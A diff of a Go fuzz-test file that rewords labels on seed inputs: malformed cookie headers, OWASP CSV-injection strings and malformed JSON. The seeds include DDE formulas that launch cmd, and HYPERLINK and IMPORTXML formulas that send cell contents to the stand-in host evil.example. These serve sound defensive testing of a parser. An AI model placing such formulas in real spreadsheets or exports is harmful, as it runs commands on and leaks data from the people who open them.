@@ -3,8 +3,8 @@ package guise_test
 import "strings"
 
 // attack is a seed of a fuzz target: a published way to break a parser of this
-// kind, told in a text of our own. From names the way, so that whoever adds one
-// sees what is there.
+// kind, in a text of our own. From names the way, so that whoever adds one sees
+// what is there.
 type attack struct{ from, text string }
 
 // cookieAttacks are Cookie headers. TOKEN stands for the right token.
@@ -14,7 +14,7 @@ var cookieAttacks = []attack{
 	{"a name without a value", "guise"},
 	{"white space before the sign of equality", "guise =TOKEN"},
 	{"white space in front", " guise=TOKEN"},
-	{"white space behind", "guise=TOKEN\t"},
+	{"white space after it", "guise=TOKEN\t"},
 	{"cookie tossing: the same name from a parent domain", "guise=TOKEN; guise=TOKEN"},
 	{"cookie tossing: the attacker's first", "guise=x; guise=TOKEN"},
 	{"cookie tossing: the attacker's last", "guise=TOKEN; a=b; guise=x"},
@@ -53,8 +53,8 @@ var cookieAttacks = []attack{
 	{"invalid UTF-8", "guise=\xc0\xaf"},
 }
 
-// cellAttacks are texts that a spreadsheet, or who looks at one, may take for
-// something else.
+// cellAttacks are texts that a spreadsheet, or whoever looks at one, may take
+// for something else.
 var cellAttacks = []attack{
 	{"OWASP CSV injection: =", "=1+1"},
 	{"OWASP CSV injection: +", "+1"},
@@ -67,12 +67,12 @@ var cellAttacks = []attack{
 	{"OWASP CSV injection: a separator that begins a new cell", "a,=1"},
 	{"OWASP CSV injection: a quotation mark that ends the cell", `",=1,"`},
 	{"where cells are parted by semicolons", "a;=1+1;b"},
-	{"the same behind a quotation mark", `a;"=1+1";b`},
-	{"the same behind white space", "a; \u00a0=1"},
+	{"the same after a quotation mark", `a;"=1+1";b`},
+	{"the same after white space", "a; \u00a0=1"},
 	{"where cells are parted by tabs", "a\t=1\tb"},
 	{"a new line where quotation marks are not seen", "a\r\n=1\r\n"},
 	{"DDE: a command", "=cmd|' /C calc'!A0"},
-	{"DDE: behind a calculation", "=10+20+cmd|' /C calc'!A0"},
+	{"DDE: after a calculation", "=10+20+cmd|' /C calc'!A0"},
 	{"DDE: without the sign of equality", "@SUM(1+1)*cmd|' /C calc'!A0"},
 	{"a call to another host", `=HYPERLINK("http://evil.example?x="&A1,"click")`},
 	{"Google Sheets: what reads another sheet", `=IMPORTXML(CONCAT("http://evil.example?x=",A1),"//a")`},
@@ -106,7 +106,7 @@ var carriedAttacks = []attack{
 	{"a number for an ID", `{"guise":1,"id":1,"actor":{"id":1},"subject":{"id":2},"mode":"read_only"}`},
 	{"numbers out of bounds", `{"guise":1,"id":"a","actor":{"id":"1"},"subject":{"id":"2"},"mode":"read_only","depth":-9223372036854775808,"started":9223372036854775807}`},
 	{"prototype pollution", `{"__proto__":{"guise":1},"guise":1,"id":"a","actor":{"id":"1"},"subject":{"id":"2"},"mode":"read_only"}`},
-	{"something behind it", `{"guise":1,"id":"a","actor":{"id":"1"},"subject":{"id":"2"},"mode":"read_only"}{}`},
+	{"something after it", `{"guise":1,"id":"a","actor":{"id":"1"},"subject":{"id":"2"},"mode":"read_only"}{}`},
 	{"half a surrogate pair", `{"guise":1,"id":"\ud800","actor":{"id":"\udc00"},"subject":{"id":"2"},"mode":"read_only"}`},
 	{"invalid UTF-8", "{\"guise\":1,\"id\":\"\xff\",\"actor\":{\"id\":\"\xff\"},\"subject\":{\"id\":\"2\"},\"mode\":\"read_only\"}"},
 	{"deep nesting", strings.Repeat(`[`, 5000)},
